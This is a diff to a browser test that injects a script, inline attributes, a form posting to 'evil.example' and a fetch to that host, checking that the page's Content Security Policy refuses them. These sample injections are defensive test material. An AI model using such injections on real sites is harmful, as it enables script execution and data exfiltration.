@@ -64,13 +64,9 @@ def test_what_a_hostile_text_could_bring_is_forbidden(page: Page) -> None:
     page.goto("/")
     page.evaluate(
         """() => {
-            const refused = new Set();
-            const expected = ["script-src-elem", "script-src-attr", "style-src-attr", "form-action", "connect-src"];
-            const all = new Promise((resolve) => {
-                document.addEventListener("securitypolicyviolation", (event) => {
-                    refused.add(event.effectiveDirective);
-                    if (expected.every((directive) => refused.has(directive))) resolve();
-                });
+            window.refused = new Set();
+            document.addEventListener("securitypolicyviolation", (event) => {
+                window.refused.add(event.effectiveDirective);
             });
             const script = document.createElement("script");
             script.textContent = "window.ran = true";
@@ -80,9 +76,10 @@ def test_what_a_hostile_text_could_bring_is_forbidden(page: Page) -> None:
             document.body.insertAdjacentHTML("beforeend", "<form action='https://evil.example/'></form>");
             document.forms[document.forms.length - 1].submit();
             fetch("https://evil.example/").catch(() => null);
-            return all;
         }"""
     )
+    directives = ["script-src-elem", "script-src-attr", "style-src-attr", "form-action", "connect-src"]
+    page.wait_for_function("(expected) => expected.every((each) => window.refused.has(each))", arg=directives)
     assert page.evaluate("window.ran") is None
 
 
